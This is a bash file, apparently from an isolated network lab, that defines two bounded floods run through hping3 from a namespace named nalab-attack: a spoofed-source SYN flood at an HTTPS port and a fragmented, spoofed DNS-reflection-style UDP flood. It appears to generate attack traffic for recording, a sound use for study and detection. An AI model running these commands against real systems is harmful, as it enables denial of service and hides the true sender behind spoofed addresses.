# shellcheck shell=bash disable=SC2086,SC2154,SC2034,SC2046  # variables are shared with record.sh; lists of addresses split on purpose
# The two attacks, from nalab-attack; sourced by record.sh. Bounded in packets (-c) and in time.

SYN_INTERVAL_MICROS=3300
DNS_INTERVAL_MICROS=5000

flood() { # flood INTERVAL_MICROS HPING3_ARGUMENT...
    local interval=$1
    shift
    timeout --signal=INT "$FLOOD_SECONDS" ip netns exec nalab-attack \
        hping3 -n -q --rand-source -i "u$interval" -c $((FLOOD_SECONDS * 1000000 / interval)) "$@" \
        >>"$WORK/hping3.log" 2>&1 || true # hping3 exits 1 since nobody answers it; timeout 124
}

syn_flood() { # spoofed SYNs at the HTTPS port
    flood $SYN_INTERVAL_MICROS --syn --win 64240 --destport 443 $WEB4
}

dns_reflection_flood() { # a resolver's large answer, in fragments, from spoofed sources
    flood $DNS_INTERVAL_MICROS --udp --baseport 53 --keep --destport 80 --mtu 1480 \
        --data "$(stat -c %s "$WORK/answer.bin")" --file "$WORK/answer.bin" $API4
}
